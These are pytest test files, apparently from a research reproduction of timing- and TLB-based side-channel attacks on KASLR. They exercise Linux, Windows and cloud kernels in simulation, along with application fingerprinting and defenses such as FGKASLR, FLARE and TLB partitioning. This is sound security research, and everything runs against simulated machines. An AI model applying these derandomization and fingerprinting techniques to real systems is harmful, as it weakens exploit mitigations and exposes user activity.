            assert process.space.translate(region.start) is not None
            assert region not in process.maps()

    def test_true_permissions(self, process):
        addr = process.mmap(1, "r--")
        assert process.true_permissions(addr) == "r--"
        assert process.true_permissions(addr + 5 * PAGE_SIZE) in ("---", "r--",
                                                                  "rw-", "r-x")

    def test_region_at_boundaries(self, process):
        addr = process.mmap(2, "rw-")
        region = process.region_at(addr + 2 * PAGE_SIZE - 1)
        assert region is not None
        assert process.region_at(addr + 2 * PAGE_SIZE) is not region


class TestCustomLibrary:
    def test_load_custom_image(self, process):
        image = LibraryImage(
            "libtest.so", [Section(".text", 2, "r-x"),
                           Section(".data", 1, "rw-")]
        )
        base = process.load_library(image)
        assert process.space.translate(base).flags.describe() == "r-x"
        assert process.space.translate(
            base + 2 * PAGE_SIZE
        ).flags.describe() == "rw-"
