"""Section V: FGKASLR, FLARE, re-randomization, NOP-mask, TLB partitioning."""

import pytest

from repro.attacks.kaslr_break import break_kaslr_intel
from repro.defenses.fgkaslr import tlb_template_attack
from repro.defenses.flare import evaluate_flare, tlb_kaslr_break
from repro.defenses.nop_mask import (
    AFFECTED_BINARY_NAMES,
    BinaryCorpus,
    enable_nop_mask_mitigation,
    mitigation_impact,
)
from repro.defenses.rerandomize import evaluate_rerandomization, period_sweep
from repro.defenses.tlb_partition import (
    evaluate_tlb_partitioning,
    partitioned_variant,
)
from repro.machine import Machine


class TestFgkaslrBypass:
    @pytest.fixture(scope="class")
    def template_result(self):
        machine = Machine.linux(seed=70, fgkaslr=True)
        targets = ["sys_read", "sys_mmap", "sys_execve"]
        return machine, tlb_template_attack(machine, targets), targets

    def test_handlers_located_despite_shuffling(self, template_result):
        machine, result, targets = template_result
        assert result.accuracy(machine.kernel) == 1.0

    def test_each_target_resolved(self, template_result):
        machine, result, targets = template_result
        for name in targets:
            page = result.handler_pages[name]
            assert page is not None
            assert page == machine.kernel.functions[name]

    def test_common_pages_are_entry_path(self, template_result):
        machine, result, __ = template_result
        assert machine.kernel.entry_address in result.common_pages

    def test_base_knowledge_alone_insufficient(self):
        """What FGKASLR actually defends: constant offsets are gone."""
        a = Machine.linux(seed=71, fgkaslr=True).kernel
        b = Machine.linux(seed=72, fgkaslr=True).kernel
        offsets_a = {n: va - a.base for n, va in a.functions.items()}
        offsets_b = {n: va - b.base for n, va in b.functions.items()}
        assert offsets_a != offsets_b

    def test_single_syscall_rejected(self):
        machine = Machine.linux(seed=73, fgkaslr=True)
        with pytest.raises(ValueError):
            tlb_template_attack(machine, ["sys_socket"])

    def test_two_syscalls_suffice(self):
        machine = Machine.linux(seed=73, fgkaslr=True)
        result = tlb_template_attack(machine, ["sys_socket", "sys_read"])
        assert result.handler_pages["sys_socket"] == \
            machine.kernel.functions["sys_socket"]


class TestFlare:
    @pytest.fixture(scope="class")
    def evaluation(self):
        machine = Machine.linux(seed=74, flare=True)
        return machine, evaluate_flare(machine)

    def test_page_table_attack_defeated(self, evaluation):
        __, result = evaluation
        assert result.page_table_defeated
        assert result.mapped_fraction > 0.9  # everything looks mapped

    def test_tlb_attack_bypasses_flare(self, evaluation):
        __, result = evaluation
        assert result.tlb_correct

    def test_hot_slots_belong_to_real_image(self, evaluation):
        machine, result = evaluation
        from repro.os.linux import layout

        true_slot = layout.kernel_slot_of(machine.kernel.base)
        image = set(range(true_slot,
                          true_slot + machine.kernel.image_2m_pages))
        assert set(result.hot_slots) <= image
        assert result.hot_slots

    def test_non_flare_machine_rejected(self):
        with pytest.raises(ValueError):
            evaluate_flare(Machine.linux(seed=75))

    def test_tlb_break_works_without_flare_too(self):
        machine = Machine.linux(seed=76)
        base, __ = tlb_kaslr_break(machine)
        assert base == machine.kernel.base


class TestNopMaskMitigation:
    def test_attack_defeated(self):
        machine = enable_nop_mask_mitigation(Machine.linux(seed=77))
        result = break_kaslr_intel(machine)
        # with flat timing everything classifies the same way: the attack
        # either finds nothing or collapses to slot 0 -- never the truth
        # (unless the truth IS slot 0, excluded by seed choice here)
        assert result.base != machine.kernel.base

    def test_flat_probe_distribution(self):
        machine = enable_nop_mask_mitigation(Machine.linux(seed=78))
        core = machine.core
        base = machine.kernel.base
        timings = set()
        for va in (base, base - (2 << 20), machine.playground.user_rw):
            core.masked_load(va)
            timings.add(core.masked_load(va).cycles)
        assert len(timings) == 1

    def test_corpus_reproduces_6_of_4104(self):
        affected, total, fraction = mitigation_impact()
        assert (affected, total) == (6, 4104)
        assert fraction < 0.002

    def test_affected_names(self):
        corpus = BinaryCorpus.ubuntu_default()
        assert set(corpus.scan()) == set(AFFECTED_BINARY_NAMES)

    def test_corpus_deterministic(self):
        a = BinaryCorpus.ubuntu_default(seed=1)
        b = BinaryCorpus.ubuntu_default(seed=1)
        assert [x.name for x in a.binaries] == [y.name for y in b.binaries]


class TestRerandomization:
    def test_long_period_attack_succeeds(self):
        outcome = evaluate_rerandomization(period_ms=1000.0, trials=100)
        assert outcome.success_rate > 0.95

    def test_period_shorter_than_attack_always_wins(self):
        outcome = evaluate_rerandomization(period_ms=0.2, trials=100)
        assert outcome.success_rate == 0.0

    def test_success_scales_with_period(self):
        sweep = period_sweep([0.5, 2.0, 20.0], trials=200)
        rates = [o.success_rate for o in sweep]
        assert rates == sorted(rates)

    def test_attack_time_recorded(self):
        outcome = evaluate_rerandomization(period_ms=10.0, trials=10)
        assert 0 < outcome.attack_ms < 5


class TestTlbPartitioning:
    def test_variant_flag(self):
        cpu = partitioned_variant()
        assert not cpu.fills_tlb_for_supervisor_user_probe
        assert "partitioned" in cpu.name

    def test_p2_stopped_p3_survives(self):
        result = evaluate_tlb_partitioning(seed=79)
        assert not result.p2_correct
        assert result.p3_correct
