"""Failure injection: the attacks must degrade honestly, not silently."""

import pytest

from repro.attacks.calibrate import ThresholdCalibration
from repro.attacks.kaslr_break import break_kaslr_intel
from repro.attacks.kpti_break import break_kaslr_kpti
from repro.attacks.module_detect import detect_modules, region_accuracy
from repro.machine import Machine


class TestNoiseFloods:
    def test_extreme_noise_breaks_the_attack_not_the_code(self):
        machine = Machine.linux(seed=950, noise_factor=24.0)
        result = break_kaslr_intel(machine)
        # the attack runs to completion and returns *something*; at 24x
        # noise the verdict is unreliable, never an exception
        assert result.timings and len(result.timings) == 512

    def test_noise_scales_measured_spread(self):
        quiet = Machine.linux(seed=951, noise_factor=1.0)
        loud = Machine.linux(seed=951, noise_factor=8.0)
        from repro.analysis.stats import summarize

        def spread(machine):
            core = machine.core
            page = machine.playground.user_rw
            core.masked_load(page)
            return summarize(
                [core.timed_masked_load(page) for _ in range(300)]
            ).std

        assert spread(loud) > spread(quiet) * 3


class TestBadCalibrations:
    def test_threshold_below_all_modes_finds_nothing(self):
        machine = Machine.linux(seed=952)
        bogus = ThresholdCalibration(mean=0, std=0, threshold=1, samples=1)
        result = break_kaslr_intel(machine, calibration=bogus)
        assert result.base is None
        assert result.mapped_slots == []

    def test_threshold_above_all_modes_finds_everything(self):
        machine = Machine.linux(seed=953)
        bogus = ThresholdCalibration(
            mean=0, std=0, threshold=10_000, samples=1
        )
        result = break_kaslr_intel(machine, calibration=bogus)
        assert len(result.mapped_slots) == 512
        # and the "base" collapses to slot 0 -- garbage in, garbage out
        assert result.slot == 0


class TestWrongAttackerKnowledge:
    def test_wrong_trampoline_offset_gives_wrong_base(self):
        machine = Machine.linux(seed=954, kpti=True)
        result = break_kaslr_kpti(machine, trampoline_offset=0xA0_0000)
        assert result.base is not None
        assert result.base != machine.kernel.base
        # off by exactly the offset error
        assert machine.kernel.base - result.base == 0xA0_0000 - \
            machine.kernel.trampoline_offset

    def test_amd_attack_with_wrong_page_offsets_fails_closed(self):
        from repro.attacks.kaslr_break import break_kaslr_amd

        machine = Machine.linux(cpu="ryzen5-5600X", seed=955)
        wrong_offsets = (0x10_0000, 0x10_1000, 0x10_4000, 0x10_6000,
                         0x10_7000)
        result = break_kaslr_amd(machine, page_offsets=wrong_offsets)
        # no candidate shows the 5-page deep-walk signature
        assert result.base != machine.kernel.base

    def test_module_detection_against_stale_proc_list(self):
        """A module list from another boot misclassifies sizes."""
        from repro.os.linux.modules import MODULE_CATALOG

        machine = Machine.linux(
            seed=956, modules=list(MODULE_CATALOG[:40])
        )
        result = detect_modules(machine)
        # detection itself (region extraction) still works
        assert region_accuracy(result, machine.kernel) > 0.9
        # but names absent from this boot's /proc/modules never appear
        loaded = {m.name for m in machine.kernel.modules}
        assert set(result.identified) <= loaded


class TestMidRunDisturbances:
    """Dynamic faults (chaos runtime), not just static noise factors."""

    def test_raw_attack_survives_the_default_profile(self):
        machine = Machine.linux(seed=960, chaos="default", kpti=False)
        result = break_kaslr_intel(machine, batched=True)
        # open-loop: completes and returns a full scan, right or wrong,
        # never an exception
        assert len(result.timings) == 512
        assert machine.chaos.log  # disturbances actually fired

    def test_raw_attack_survives_the_hostile_profile(self):
        machine = Machine.linux(seed=961, chaos="hostile", kpti=False)
        result = break_kaslr_intel(machine, batched=True)
        assert len(result.timings) == 512

    def test_supervised_attack_closes_the_loop(self):
        from repro.attacks.supervisor import supervise

        machine = Machine.linux(seed=961, chaos="hostile", kpti=False)
        verdict = supervise(machine, "kaslr", batched=True)
        assert verdict.status in ("found", "abstain", "failed")
        assert verdict.disturbances

    def test_chaos_schedule_is_mode_agnostic(self):
        outcomes = []
        for batched in (True, False):
            machine = Machine.linux(seed=962, chaos="default", kpti=False)
            break_kaslr_intel(machine, batched=batched)
            outcomes.append(
                (machine.chaos.log_as_dicts(), machine.clock.cycles)
            )
        assert outcomes[0] == outcomes[1]

    def test_module_detection_under_chaos_returns_regions(self):
        machine = Machine.linux(seed=963, chaos="default", kpti=False)
        result = detect_modules(machine, batched=True)
        assert result.regions  # degraded maybe, but never empty-handed


class TestEnvironmentMismatches:
    def test_kaslr_disabled_attack_reports_fixed_base(self):
        machine = Machine.linux(seed=957, kaslr=False)
        result = break_kaslr_intel(machine)
        assert result.base == 0xFFFF_FFFF_8100_0000

    def test_flare_machine_defeats_plain_attack_deterministically(self):
        machine = Machine.linux(seed=958, flare=True)
        result = break_kaslr_intel(machine)
        assert len(result.mapped_slots) > 500

    def test_mitigated_machine_produces_flat_scan(self):
        from repro.defenses.nop_mask import enable_nop_mask_mitigation
        from repro.analysis.stats import summarize

        machine = enable_nop_mask_mitigation(Machine.linux(seed=959))
        result = break_kaslr_intel(machine)
        spread = summarize(result.timings)
        # the whole scan collapses into the noise band
        assert spread.p95 - spread.p5 < 12
