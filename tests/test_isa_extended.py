"""Extended ISA: new ALU ops, tracing, the disassembler."""

import pytest

from repro.isa.assembler import AssemblyError, assemble
from repro.isa.disasm import disassemble, format_trace
from repro.isa.executor import Executor, Program
from repro.machine import Machine


@pytest.fixture
def executor():
    return Executor(Machine.linux(seed=970).core)


class TestNewAluOps:
    def test_and(self, executor):
        regs = executor.run("mov rax, 0xff\nand rax, 0x0f\nret")
        assert regs.read("rax") == 0x0F

    def test_xor_self_zeroes(self, executor):
        regs = executor.run("mov rax, 1234\nxor rax, rax\nret")
        assert regs.read("rax") == 0
        assert regs.zf

    def test_test_sets_flags_without_writing(self, executor):
        regs = executor.run("mov rax, 8\ntest rax, 7\nret")
        assert regs.read("rax") == 8
        assert regs.zf  # 8 & 7 == 0

    def test_inc_dec(self, executor):
        regs = executor.run("mov rcx, 5\ninc rcx\ninc rcx\ndec rcx\nret")
        assert regs.read("rcx") == 6

    def test_dec_to_zero_sets_zf(self, executor):
        regs = executor.run("mov rcx, 1\ndec rcx\nret")
        assert regs.zf

    def test_inc_requires_gpr(self, executor):
        with pytest.raises(Exception):
            executor.run("inc ymm0\nret")

    def test_countdown_loop_with_dec(self, executor):
        source = """
            mov rcx, 5
            mov rax, 0
        again:
            add rax, 3
            dec rcx
            jne again
            ret
        """
        assert executor.run(source).read("rax") == 15


class TestTracing:
    def test_trace_disabled_by_default(self, executor):
        executor.run("nop\nret")
        assert executor.last_trace is None

    def test_trace_records_every_step(self, executor):
        executor.run("mov rax, 1\nadd rax, 1\nret", trace=True)
        assert len(executor.last_trace) == 3
        pcs = [pc for pc, __, __ in executor.last_trace]
        assert pcs == [0, 1, 2]

    def test_trace_cycles_monotone(self, executor):
        executor.run("nop\nnop\nlfence\nret", trace=True)
        cycles = [c for __, __, c in executor.last_trace]
        assert cycles == sorted(cycles)

    def test_trace_follows_branches(self, executor):
        source = """
            mov rcx, 2
        top:
            dec rcx
            jne top
            ret
        """
        executor.run(source, trace=True)
        pcs = [pc for pc, __, __ in executor.last_trace]
        assert pcs == [0, 1, 2, 1, 2, 3]

    def test_format_trace(self, executor):
        executor.run("nop\nret", trace=True)
        text = format_trace(executor.last_trace)
        assert "instruction" in text
        assert "nop" in text and "ret" in text


class TestDisassembler:
    def test_roundtrip_reassembles(self):
        source = """
        start:
            mov rax, 0x10
            vpxor ymm0, ymm0, ymm0
            vpmaskmovd ymm1, ymm0, [rax+0x20]
            cmp rax, 16
            je start
            ret
        """
        program = Program(source)
        listing = disassemble(program)
        # every mnemonic and the label survive
        for token in ("start:", "mov", "vpmaskmovd", "[rax+0x20]", "je"):
            assert token in listing
        # the listing's instruction lines re-assemble to the same program
        cleaned = "\n".join(
            line.split(None, 1)[1] if line.strip()[0].isdigit() else line
            for line in listing.splitlines()
        )
        instructions, labels = assemble(cleaned)
        assert len(instructions) == len(program.instructions)
        assert labels == program.labels

    def test_negative_displacement_rendered(self):
        listing = disassemble(Program("vpmaskmovd ymm1, ymm0, [rax-8]"))
        assert "[rax-0x8]" in listing

    def test_trailing_label(self):
        listing = disassemble(Program("jmp end\nnop\nend:"))
        assert listing.rstrip().endswith("end:")
