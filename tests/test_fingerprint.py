"""Application fingerprinting via module-activity vectors."""

import pytest

from repro.attacks.fingerprint import (
    ApplicationFingerprinter,
    Observation,
    fingerprint_confusion,
)
from repro.errors import AttackError
from repro.machine import Machine
from repro.workloads.apps import (
    APP_CATALOG,
    SENTINEL_MODULES,
    ApplicationProfile,
    ApplicationWorkload,
)


@pytest.fixture(scope="module")
def spy_machine():
    return Machine.linux(cpu="i7-1065G7", seed=500)


@pytest.fixture(scope="module")
def spy(spy_machine):
    return ApplicationFingerprinter(spy_machine)


class TestAppCatalog:
    def test_sentinels_have_unique_sizes(self):
        from repro.os.linux.modules import uniquely_sized

        unique_names = {m.name for m in uniquely_sized()}
        assert set(SENTINEL_MODULES) <= unique_names

    def test_profiles_reference_known_modules(self):
        from repro.os.linux.modules import by_name

        for profile in APP_CATALOG.values():
            for module in profile.module_rates:
                by_name(module)  # raises if unknown

    def test_profiles_are_distinguishable(self):
        """Pairwise L2 distance between catalog profiles is substantial."""
        import math

        profiles = list(APP_CATALOG.values())
        for i, a in enumerate(profiles):
            for b in profiles[i + 1 :]:
                keys = set(a.module_rates) | set(b.module_rates)
                distance = math.sqrt(sum(
                    (a.module_rates.get(k, 0) - b.module_rates.get(k, 0)) ** 2
                    for k in keys
                ))
                assert distance > 0.4, (a.name, b.name)

    def test_workload_by_name(self):
        workload = ApplicationWorkload("gaming", seed=1)
        assert workload.profile.name == "gaming"

    def test_idle_never_active(self):
        assert not ApplicationWorkload("idle", seed=1).is_active(0)


class TestObservation:
    def test_distance_zero_for_identical(self):
        obs = Observation({"a": 0.5, "b": 0.0}, 10)
        assert obs.distance({"a": 0.5}) == 0.0

    def test_distance_symmetric_over_missing_keys(self):
        obs = Observation({"a": 1.0}, 10)
        assert obs.distance({"b": 1.0}) == pytest.approx(2 ** 0.5)


class TestFingerprinter:
    def test_sentinels_located_by_size(self, spy, spy_machine):
        for name, address in spy.sentinels.items():
            assert address == spy_machine.kernel.module_map[name][0]

    def test_observation_rates_track_profile(self, spy):
        workload = ApplicationWorkload("file-transfer", seed=9)
        observation = spy.observe(workload, intervals=24)
        profile = APP_CATALOG["file-transfer"].module_rates
        assert observation.rates["e1000e"] > 0.8
        assert observation.rates["bluetooth"] < 0.1
        assert abs(observation.rates["nvme"] - profile["nvme"]) < 0.3

    @pytest.mark.parametrize("truth", sorted(APP_CATALOG))
    def test_each_app_classified_correctly(self, spy, truth):
        workload = ApplicationWorkload(truth, seed=hash(truth) % 1000)
        guess, __, ranking = spy.identify(
            workload, list(APP_CATALOG.values()), intervals=24
        )
        assert guess == truth
        assert ranking[0][1] <= ranking[-1][1]

    def test_unknown_sentinel_rejected(self, spy_machine):
        with pytest.raises(AttackError):
            ApplicationFingerprinter(
                spy_machine, sentinels=("coretemp",),  # non-unique size
            )

    def test_confusion_matrix_diagonal(self):
        names = ("video-call", "file-transfer", "idle")
        matrix = fingerprint_confusion(
            lambda seed: Machine.linux(cpu="i7-1065G7", seed=seed),
            names, trials=1, intervals=16, seed0=700,
        )
        for truth in names:
            assert matrix[truth][truth] == 1
