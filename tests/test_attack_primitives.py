"""Calibration and the three attack primitives (P2/P4/P5)."""

import pytest

from repro.attacks.calibrate import (
    calibrate_store_threshold,
    calibrate_user_load,
    robust_stats,
)
from repro.attacks.primitives import (
    PageTableAttack,
    PermissionAttack,
    TLBAttack,
    double_probe_load,
    double_probe_store,
)
from repro.mmu.address import PAGE_SIZE, PAGE_SIZE_2M


class TestRobustStats:
    def test_median_and_mean(self):
        median, mean, std = robust_stats([10, 10, 10, 10, 10])
        assert median == 10 and mean == 10 and std == 0

    def test_spike_resistance(self):
        values = [100] * 95 + [5000] * 5
        __, mean, __ = robust_stats(values)
        assert mean < 200  # the trimmed mean ignores the spikes


class TestCalibration:
    def test_threshold_sits_in_the_gap(self, linux_machine):
        """The decision boundary lands between mapped and unmapped modes."""
        machine = linux_machine
        calibration = calibrate_store_threshold(machine)
        cpu = machine.cpu
        mapped = (cpu.expected_kernel_mapped_load_tlb_hit()
                  + cpu.measurement_overhead)
        unmapped_extra = cpu.walk_base + cpu.walk_access_hot + \
            3 * cpu.level_step_cycles
        unmapped = (cpu.load_base + cpu.assist_load + unmapped_extra
                    + cpu.measurement_overhead)
        assert mapped < calibration.threshold < unmapped

    def test_classify_mapped(self, linux_machine):
        calibration = calibrate_store_threshold(linux_machine)
        assert calibration.classify_mapped(calibration.mean)
        assert not calibration.classify_mapped(calibration.threshold + 50)

    def test_calibration_mean_matches_identity(self, linux_machine):
        """Store on clean USER-M ~= kernel-mapped load (Section IV-B)."""
        machine = linux_machine
        calibration = calibrate_store_threshold(machine)
        expected = (machine.cpu.expected_kernel_mapped_load_tlb_hit()
                    + machine.cpu.measurement_overhead)
        assert abs(calibration.mean - expected) < 6

    def test_user_load_baseline_is_13_cycles(self, icelake_machine):
        machine = icelake_machine
        calibration = calibrate_user_load(machine)
        expected = 13 + machine.cpu.measurement_overhead
        assert abs(calibration.mean - expected) < 8


class TestDoubleProbe:
    def test_mapped_kernel_faster_than_unmapped(self, linux_machine):
        machine = linux_machine
        core = machine.core
        base = machine.kernel.base
        t_mapped = double_probe_load(core, base, rounds=8)
        t_unmapped = double_probe_load(core, base - PAGE_SIZE_2M, rounds=8)
        assert t_mapped < t_unmapped

    def test_take_min_filters_spikes(self, linux_machine):
        core = linux_machine.core
        base = linux_machine.kernel.base
        t_min = double_probe_load(core, base, rounds=16, take_min=True)
        t_mean = double_probe_load(core, base, rounds=16)
        assert t_min <= t_mean

    def test_store_probe(self, linux_machine):
        core = linux_machine.core
        t = double_probe_store(core, linux_machine.playground.user_rw,
                               rounds=4)
        assert t > 0


class TestPageTableAttack:
    def test_is_mapped_on_kernel_pages(self, linux_machine):
        machine = linux_machine
        calibration = calibrate_store_threshold(machine)
        attack = PageTableAttack(machine, calibration)
        assert attack.is_mapped(machine.kernel.base)
        assert not attack.is_mapped(machine.kernel.base - PAGE_SIZE_2M)

    def test_requires_calibration(self, linux_machine):
        attack = PageTableAttack(linux_machine)
        with pytest.raises(ValueError):
            attack.is_mapped(linux_machine.kernel.base)

    def test_classify_scan(self, linux_machine):
        machine = linux_machine
        calibration = calibrate_store_threshold(machine)
        attack = PageTableAttack(machine, calibration)
        base = machine.kernel.base
        verdicts = attack.classify_scan(
            [base - PAGE_SIZE_2M, base, base + PAGE_SIZE_2M]
        )
        assert verdicts == [False, True, True]


class TestTLBAttack:
    def test_detects_kernel_activity(self, linux_machine):
        machine = linux_machine
        attack = TLBAttack(machine)
        target = machine.kernel.functions["sys_read"]

        attack.prime()
        hit_idle, __ = attack.probe(target)
        # probing filled the TLB; re-prime and let the victim run
        attack.prime()
        machine.kernel.syscall(machine.core, "sys_read")
        hit_active, __ = attack.probe(target)
        assert hit_active and not hit_idle

    def test_probe_region_verdicts(self, linux_machine):
        machine = linux_machine
        attack = TLBAttack(machine)
        start, __ = machine.kernel.module_map["video"]
        attack.prime()
        machine.kernel.touch_module(machine.core, "video", pages=4)
        __, verdicts = attack.probe_region(start, 4)
        assert all(verdicts)

    def test_idle_module_misses(self, linux_machine):
        machine = linux_machine
        attack = TLBAttack(machine)
        start, __ = machine.kernel.module_map["video"]
        attack.prime()
        mean, verdicts = attack.probe_region(start, 4)
        assert not any(verdicts)


class TestPermissionAttack:
    def test_classify_playground_pages(self, linux_machine):
        machine = linux_machine
        attack = PermissionAttack(machine)
        pg = machine.playground
        assert attack.classify(pg.user_ro) == "r"
        assert attack.classify(pg.user_rx) == "r"
        assert attack.classify(pg.user_rw) == "rw"
        assert attack.classify(pg.user_none) == "---"
        assert attack.classify(pg.unmapped) == "---"

    def test_cannot_split_ro_from_rx(self, linux_machine):
        """Figure 3: r-- and r-x are indistinguishable."""
        attack = PermissionAttack(linux_machine)
        pg = linux_machine.playground
        assert attack.classify(pg.user_ro) == attack.classify(pg.user_rx)

    def test_dirty_rw_detected_as_rw(self, linux_machine):
        machine = linux_machine
        addr = machine.process.mmap(1, "rw-")
        machine.kernel.user_space.page_table.set_flag(
            addr, __import__("repro.mmu.flags", fromlist=["PageFlags"]).PageFlags.DIRTY
        )
        attack = PermissionAttack(machine)
        assert attack.classify(addr) == "rw"

    def test_map_region(self, linux_machine):
        machine = linux_machine
        base = machine.process.library_bases["ld-linux-x86-64.so.2"]
        attack = PermissionAttack(machine)
        perms = attack.map_region(base, 41)
        assert perms[0] == "r"         # .text
        assert perms[40] == "rw"       # .data
