"""Windows region/KVAS scans and the cloud audit suite."""

import pytest

from repro.attacks.cloud_break import audit_cloud
from repro.attacks.windows_break import (
    find_entry_point,
    find_kernel_region,
    find_kvas_region,
)
from repro.machine import Machine


class TestWindowsRegionScan:
    @pytest.fixture(scope="class")
    def scan(self):
        machine = Machine.windows(seed=60)
        return machine, find_kernel_region(machine)

    def test_base_found(self, scan):
        machine, result = scan
        assert result.base == machine.kernel.base

    def test_region_is_five_slots(self, scan):
        __, result = scan
        assert len(result.region_slots) >= 5
        diffs = [b - a for a, b in zip(result.region_slots,
                                       result.region_slots[1:])]
        assert all(d == 1 for d in diffs)

    def test_derandomizes_18_bits(self, scan):
        __, result = scan
        assert result.derandomized_bits == 18

    def test_runtime_extrapolation(self, scan):
        """Paper: ~60 ms on the i5-12400F."""
        __, result = scan
        assert 0.01 < result.probing_seconds < 0.3
        assert result.full_probe_count == 262144
        assert result.simulated_probes < result.full_probe_count

    def test_entry_point_entropy_remains(self, scan):
        """The scan recovers the region, not the 4 KiB entry point."""
        machine, result = scan
        assert machine.kernel.entry_point >= result.base


class TestEntryPointAttack:
    """The paper's "remaining 9 bits" via the TLB attack (P4)."""

    def test_entry_point_recovered(self):
        machine = Machine.windows(seed=68)
        region = find_kernel_region(machine)
        entry = find_entry_point(machine, region.base)
        assert entry == machine.kernel.entry_point

    def test_full_27_bit_break_across_seeds(self):
        for seed in (69, 70):
            machine = Machine.windows(seed=seed)
            region = find_kernel_region(machine)
            assert region.base == machine.kernel.base
            entry = find_entry_point(machine, region.base)
            assert entry == machine.kernel.entry_point


class TestKvasScan:
    @pytest.fixture(scope="class")
    def scan(self):
        machine = Machine.windows(cpu="i7-6600U", version="1709", seed=61)
        return machine, find_kvas_region(machine)

    def test_kvas_machine_required(self):
        machine = Machine.windows(seed=62)  # Alder Lake: no KVAS
        with pytest.raises(ValueError):
            find_kvas_region(machine)

    def test_base_recovered_from_kvas_offset(self, scan):
        machine, result = scan
        assert result.base == machine.kernel.base

    def test_three_page_run(self, scan):
        __, result = scan
        assert len(result.region_slots) == 3

    def test_runtime_seconds_scale(self, scan):
        """Paper: ~8 s; the extrapolated scan is the same order."""
        __, result = scan
        assert 2 < result.probing_seconds < 40


class TestCloudAudit:
    def test_ec2_uses_trampoline(self):
        result = audit_cloud("ec2", seed=63)
        assert result.method == "kpti-trampoline"
        assert result.base_correct
        assert result.modules_ms is not None

    def test_gce_plain_p2(self):
        result = audit_cloud("gce", seed=64)
        assert result.method == "intel-p2"
        assert result.base_correct
        assert result.modules_identified == 19

    def test_azure_region_scan(self):
        result = audit_cloud("azure", seed=65)
        assert result.method == "region-scan"
        assert result.base_correct
        assert result.derandomized_bits == 18

    def test_ec2_faster_than_gce(self):
        """The paper's ordering: EC2 base 0.03 ms < GCE 0.08 ms."""
        ec2 = audit_cloud("ec2", seed=66, detect_kernel_modules=False)
        gce = audit_cloud("gce", seed=66, detect_kernel_modules=False)
        assert ec2.base_ms < gce.base_ms

    def test_runtimes_milliseconds_scale(self):
        ec2 = audit_cloud("ec2", seed=67, detect_kernel_modules=False)
        assert ec2.base_ms < 1.0  # paper: 0.03 ms
