"""The disturbance-injection runtime: profiles, effects, determinism."""

import pytest

from repro.attacks.kaslr_break import break_kaslr_intel
from repro.chaos import (
    CHAOS_PROFILES,
    ChaosProfile,
    ChaosRuntime,
    EVENT_KINDS,
    get_chaos_profile,
)
from repro.errors import ConfigError
from repro.machine import Machine


def _event_log(machine):
    return machine.chaos.log_as_dicts()


class TestProfiles:
    def test_registry_has_the_documented_profiles(self):
        for name in ("quiet", "default", "hostile", "rerandomizing"):
            assert name in CHAOS_PROFILES

    def test_lookup_by_name_and_passthrough(self):
        profile = get_chaos_profile("default")
        assert profile.name == "default"
        assert get_chaos_profile(profile) is profile
        assert get_chaos_profile(None) is None

    def test_unknown_profile_rejected(self):
        with pytest.raises(ConfigError):
            get_chaos_profile("apocalyptic")

    def test_default_profile_arms_the_acceptance_kinds(self):
        kinds = get_chaos_profile("default").active_kinds
        assert set(kinds) == {"migration", "dvfs", "neighbor-burst"}

    def test_active_kinds_ordered_like_event_kinds(self):
        kinds = get_chaos_profile("hostile").active_kinds
        indexes = [EVENT_KINDS.index(k) for k in kinds]
        assert indexes == sorted(indexes)


class TestQuietIsANoOp:
    def test_quiet_profile_bit_identical_to_unattached(self):
        plain = Machine.linux(seed=5)
        quiet = Machine.linux(seed=5, chaos="quiet")
        assert quiet.chaos is not None and not quiet.chaos.active
        r_plain = break_kaslr_intel(plain, batched=True)
        r_quiet = break_kaslr_intel(quiet, batched=True)
        assert list(r_plain.timings) == list(r_quiet.timings)
        assert plain.clock.cycles == quiet.clock.cycles
        assert r_plain.base == r_quiet.base
        assert quiet.chaos.log == []


class TestScheduleDeterminism:
    def test_same_seed_same_schedule(self):
        logs = []
        for _ in range(2):
            machine = Machine.linux(seed=13, chaos="default")
            break_kaslr_intel(machine, batched=True)
            logs.append(_event_log(machine))
        assert logs[0] == logs[1]
        assert logs[0]  # the default profile does fire during a break

    def test_different_seeds_differ(self):
        logs = []
        for seed in (13, 14):
            machine = Machine.linux(seed=seed, chaos="default")
            break_kaslr_intel(machine, batched=True)
            logs.append(_event_log(machine))
        assert logs[0] != logs[1]

    def test_per_op_and_batched_see_identical_disturbances(self):
        outcomes = []
        for batched in (True, False):
            machine = Machine.linux(seed=7, chaos="default")
            break_kaslr_intel(machine, batched=batched)
            outcomes.append((_event_log(machine), machine.clock.cycles))
        assert outcomes[0] == outcomes[1]

    def test_events_fire_in_clock_order_with_armed_kinds_only(self):
        machine = Machine.linux(seed=21, chaos="hostile")
        break_kaslr_intel(machine, batched=True)
        log = _event_log(machine)
        armed = set(get_chaos_profile("hostile").active_kinds)
        assert {e["kind"] for e in log} <= armed
        applied = [e["applied_at_cycles"] for e in log]
        assert applied == sorted(applied)
        for event in log:
            assert event["applied_at_cycles"] >= event["at_cycles"]


class TestEffects:
    def test_dvfs_rescales_measured_cycles(self):
        machine = Machine.linux(seed=30)
        core = machine.core
        page = machine.playground.user_rw
        core.masked_load(page)
        overhead = machine.cpu.measurement_overhead
        baseline = min(core.timed_masked_load(page) for _ in range(50))
        core.dvfs_scale = 2.0
        scaled = min(core.timed_masked_load(page) for _ in range(50))
        # the true op cost doubles; the measurement overhead does not
        assert scaled - overhead >= (baseline - overhead) * 1.8

    def test_irq_spike_lands_on_exactly_one_measurement(self):
        machine = Machine.linux(seed=31)
        core = machine.core
        page = machine.playground.user_rw
        core.masked_load(page)
        core.pending_spike_cycles = 5_000
        spiked = core.timed_masked_load(page)
        after = core.timed_masked_load(page)
        assert spiked > 4_000
        assert after < 1_000
        assert core.pending_spike_cycles == 0

    def test_rerandomize_moves_the_kernel_and_bumps_generation(self):
        profile = ChaosProfile("test-rr", rerandomize_period=10_000)
        machine = Machine.linux(seed=32, chaos=profile)
        old_base = machine.kernel.base
        core = machine.core
        moved = False
        for _ in range(64):
            core.clock.advance(5_000)
            core.chaos_poll()
            if machine.chaos.layout_generation:
                moved = True
                break
        assert moved
        event = _event_log(machine)[0]
        assert event["kind"] == "rerandomize"
        assert event["params"]["old_base"] == old_base
        assert machine.kernel.base == event["params"]["new_base"]
        # the old image really is gone from the page tables
        assert not machine.kernel.is_kernel_text_mapped(old_base) \
            or machine.kernel.base == old_base

    def test_rerandomize_disabled_on_nokaslr_machines(self):
        machine = Machine.linux(seed=33, kaslr=False, chaos="rerandomizing")
        assert "rerandomize" not in machine.chaos._active_kinds

    def test_timer_flip_toggles_resolution(self):
        profile = ChaosProfile("test-tf", timer_flip_period=5_000,
                               coarse_timer_resolution=32)
        machine = Machine.linux(seed=34, chaos=profile)
        core = machine.core
